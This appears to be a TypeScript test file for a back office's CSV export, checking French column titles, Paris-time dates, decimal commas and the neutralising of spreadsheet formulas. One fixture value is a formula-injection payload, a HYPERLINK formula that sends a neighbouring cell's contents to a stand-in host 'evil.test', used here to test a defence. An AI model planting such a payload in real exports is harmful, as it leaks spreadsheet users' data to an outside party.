/**
 * The back office's CSV exports as a French office opens them: read back with a real CSV parser, they hold the
 * screen's titles, references by their titles, values in words, instants in Paris time, and no formula.
 */
import { describe, expect, it, vi } from 'vitest';
import { csvText, exportRows, neutralised } from '../../admin/generic/csvExport.ts';
import { csvRows } from '../support/csv.ts';
import { entityNamed } from '../../entities/index.ts';
import { t } from '../../common/i18n/index.ts';

vi.hoisted(() => vi.stubGlobal('navigator', { language: 'fr-FR' }));

const traveller = entityNamed('traveller');
const titles = new Map([['company', new Map([[20, 'Acme; Industries "Nord"']])]]);
const travellers = [
  { id: 1, last_name: 'Lefèvre', first_name: 'André', email: 'andre@acme-demo.fr', company: 20, enabled: true, created_at: '2026-07-01T10:05:00Z' },
  {
    id: 2,
    last_name: '=HYPERLINK("http://evil.test/?leak="&B2,"Voir")',
    first_name: '+33 6',
    email: '@x',
    company: 99,
    enabled: false,
    created_at: '2026-01-15T23:30:00Z',
  },
];

describe('a list exported as CSV', () => {
  it('reads back with the screen’s titles, accents, references by title, words and Paris time', async () => {
    const text = csvText(exportRows(traveller, [...traveller.list.columns, 'created_at'], travellers, titles));
    expect(text.startsWith('\ufeff')).toBe(true);
    const [header, first, second] = await csvRows(text);
    expect(header).toEqual(['Nom', 'Prénom', 'Email', 'Téléphone mobile', 'Société', 'Actif', 'Créé le']);
    expect(first).toEqual(['Lefèvre', 'André', 'andre@acme-demo.fr', '', 'Acme; Industries "Nord"', 'Oui', '01/07/2026 12:05']);
    // A reference the reader may not see keeps its id; winter time is an hour ahead of UTC in Paris, past midnight here.
    expect(second.slice(4)).toEqual(['99', 'Non', '16/01/2026 00:30']);
  });

  it('writes every cell a spreadsheet would run as a formula as text', async () => {
    const [, , second] = await csvRows(csvText(exportRows(traveller, traveller.list.columns, travellers, titles)));
    expect(second.slice(0, 3)).toEqual([`'=HYPERLINK("http://evil.test/?leak="&B2,"Voir")`, "'+33 6", "'@x"]);
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(neutralised(`${start}1`)).toBe(`'${start}1`);
    expect(neutralised('Jean-Marc')).toBe('Jean-Marc');
  });

  it('writes statuses by their label and amounts with a French decimal comma, not as text with a currency sign', async () => {
    const booking = entityNamed('booking');
    const [header, row] = await csvRows(
      csvText(
        exportRows(
          booking,
          ['ref', 'status', 'arrival_date', 'amount'],
          [{ id: 5, ref: 'BK1', status: 60, arrival_date: '2026-12-24', amount: -1234.5 }],
          titles,
        ),
      ),
    );
    expect(header).toEqual(['Référence', 'Statut', 'Arrivée', 'Montant total (frais inclus)']);
    expect(row[1]).toBe(t('resources.booking.enums.status.60'));
    expect(row[1]).not.toMatch(/\d/);
    expect(row.slice(2)).toEqual(['24/12/2026', '-1234,50']);
  });
});
